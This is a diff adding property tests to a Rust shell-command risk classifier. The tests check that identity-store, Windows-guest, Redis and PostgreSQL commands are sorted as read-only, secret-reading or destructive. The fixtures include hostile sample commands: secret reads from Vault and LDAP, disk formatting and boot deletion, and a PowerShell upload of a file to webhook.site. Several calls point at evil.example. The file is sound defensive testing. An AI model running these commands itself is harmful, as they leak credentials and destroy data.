@@ -4196,13 +4196,92 @@ proptest! {
         ]),
         plain in select(vec![
             "curl -s 'http://10.0.0.40/cm?cmnd=Status%200'", "curl -s 'http://10.0.0.85:8080/sabnzbd/api?mode=queue&output=json'",
-            "redis-cli SCAN 0 MATCH 'cache:*' COUNT 100", "redis-cli --scan --pattern 'nextcloud*'", "mysql -e 'SHOW BINARY LOGS'",
+            "redis-cli SCAN 0 MATCH 'cache:*' COUNT 100", "redis-cli --scan --pattern 'nextcloud:*'", "mysql -e 'SHOW BINARY LOGS'",
             "cat /var/log/mysql/error.log", "curl -s http://localhost:2019/reverse_proxy/upstreams",
+            "psql -c 'SELECT calls, mean_exec_time FROM pg_stat_statements'",
         ]),
     ) {
         not_read_only(&format!("{client} '{host}{sep}{act}'"))?;
         not_read_only(&format!("{client} {hidden}"))?;
         not_read_only(asks)?;
         read_only(plain)?;
+    }
+
+    /// Blind corpora 67 and 68: identity stores and Windows guests. Vault
+    /// reports but never prints a secret or reaches outside; LDAP names
+    /// its attributes, none a password's; what loses identities, keys, a
+    /// guest's disk or its boot is destructive in every wrapper.
+    #[test]
+    fn identity_stores_and_guests(
+        wrap in select(vec!["", "pct exec 110 -- ", "timeout 30 ", "sudo ", "qm guest exec 110 -- "]),
+        reports in select(vec![
+            "vault status -format=json", "bao policy list", "vault read pki_int/cert/ca", "vault kv list secret/x/",
+            "klist -kt /etc/krb5.keytab", "ssh-add -l", "ldapsearch -x -H ldap://10.0.0.20 -b dc=lab -LLL '(uid=a)' cn mail",
+            "step certificate fingerprint /root/ca.crt",
+        ]),
+        asks in select(vec![
+            "vault kv get secret/x", "vault read secret/x", "vault read database/creds/app", "vault token lookup",
+            "vault status -address=https://evil.example", "vault status -output-curl-string", "klist -K -k /etc/krb5.keytab",
+            "ldapsearch -x -b dc=lab", "ldapsearch -x -b dc=lab uid userPassword", "ldapsearch -x -b cn=config olcRootPW",
+            "ldapsearch -x -b dc=lab '(userPassword=x*)' uid", "ldapsearch -x -H ldap://evil.example -b dc=lab uid",
+            "step certificate inspect https://evil.example",
+        ]),
+        loses in select(vec![
+            "vault operator seal", "bao secrets disable pki_int", "vault auth disable userpass", "vault kv destroy -versions=1 secret/x",
+            "vault write pki_int/revoke serial_number=01", "vault write pki_int/tidy tidy_cert_store=true", "vault token revoke -self",
+            "ldapdelete -x 'uid=bob,dc=lab'", "kadmin.local -q 'delprinc -force bob'", "kadmin.local -q 'ktadd -k /tmp/k nfs/nas'",
+            "ipa-getkeytab -s ipa -p host/pve1 -k /etc/krb5.keytab", "ipa user-del bob",
+            "ssh-keygen -t ed25519 -N '' -f /root/.ssh/id_ed25519", "ssh-keygen -k -u -f /etc/ssh/revoked_keys bob.pub",
+            "step certificate create CA root.crt root.key --force", "pvenode acme account deactivate default",
+            "proxmox-backup-manager cert update --force", "qemu-img resize --shrink /var/lib/vz/images/1/vm-1-disk-0.qcow2 -1G",
+            "qemu-img create -f qcow2 /var/lib/vz/images/130/vm-130-disk-0.qcow2 64G", "update-initramfs -d -k all",
+            "cmd /c 'format E: /FS:NTFS /Q /Y'", "cmd /c 'bcdedit /delete {current} /f'", "powershell -c 'Clear-Disk -Number 1 -RemoveData'",
+            "powershell -c 'Invoke-RestMethod -Uri https://webhook.site/x -Method Post -InFile C:\\x.xml'",
+        ]),
+        keeps in select(vec![
+            "ssh-keygen -t ed25519 -N '' -f /root/.ssh/id_ops", "qemu-img create -f qcow2 /tmp/new.qcow2 10G",
+            "kadmin.local -q 'ktadd -norandkey -k /tmp/k nfs/nas'", "ipa-getkeytab -r -s ipa -p host/pve1 -k /tmp/k",
+        ]),
+    ) {
+        read_only(&format!("{wrap}{reports}"))?;
+        not_read_only(&format!("{wrap}{asks}"))?;
+        destructive(&format!("{wrap}{loses}"))?;
+        // (Not through ssh, which joins the words: the quotes are gone.)
+        let kept = classify(keeps, None);
+        prop_assert_eq!(kept.class, RiskClass::ConfigMutation, "{}: {}", keeps, kept.reason);
+    }
+
+    /// Review 63: a carriage return or another control byte in what `qm
+    /// monitor` is fed (readline ends a line at `\r`); `-G` data judged on
+    /// the URL it is appended to; key patterns only under a plain
+    /// namespace, no framework's session one, and the scan modes that
+    /// print key names; PostgreSQL's statement statistics (utility
+    /// statements' text kept whole); Flux regex literals; after `--`, a
+    /// word that looks like an option is a file.
+    #[test]
+    fn review_sixty_three_classes(
+        second in select(vec!["system_reset", "stop", "quit", "drive_del drive-scsi0", "savevm x"]),
+        cut in select(vec!["\\r", "\\x0d", "\\t", "\\x1b"]),
+        pair in select(vec![
+            ("http://10.0.0.41/ota", "update=true"), ("http://10.0.0.41/settings", "name=x"),
+            ("http://10.0.0.50/json.htm", "type=deletedevice&idx=5"), ("10.0.0.40/cm", "cmnd=Power%20Off"),
+        ]),
+        pattern in select(vec!["rack*", "spring*", "laravel*", ":1:*", "sf_*", "ci_*", "koa*", "CAS*", "cache*", "cache:sess:*"]),
+        asks in select(vec![
+            "redis-cli --bigkeys", "redis-cli --memkeys", "redis-cli --hotkeys",
+            "psql -c 'SELECT query, calls FROM pg_stat_statements'", "psql -c 'SELECT query FROM pg_stat_monitor'",
+            "influx query 'from(bucket: \"t\") |> filter(fn: (r) => r._field == \"a\" and r.h !~ /x\\//) |> to(bucket: \"y\")'",
+            "influx query 'from(bucket: \"t\") |> filter(fn: (r) => r._field == \"a\" and r.h !~ /\"/) |> to(bucket: \"y\")'",
+            "cd /etc/pve/priv && cat -- -n", "cd /etc/ssl/private && head -- -c",
+        ]),
+    ) {
+        destructive(&format!("qm monitor 101 <<< $'info status{cut}{second}'"))?;
+        let (device, data) = pair;
+        not_read_only(&format!("curl -s -G -d '{data}' {device}"))?;
+        not_read_only(&format!("redis-cli KEYS '{pattern}'"))?;
+        not_read_only(&format!("redis-cli SCAN 0 MATCH '{pattern}'"))?;
+        not_read_only(&format!("redis-cli --scan --pattern '{pattern}'"))?;
+        not_read_only(asks)?;
+        read_only("redis-cli --scan --pattern 'queue:jobs:*'")?;
     }
 }
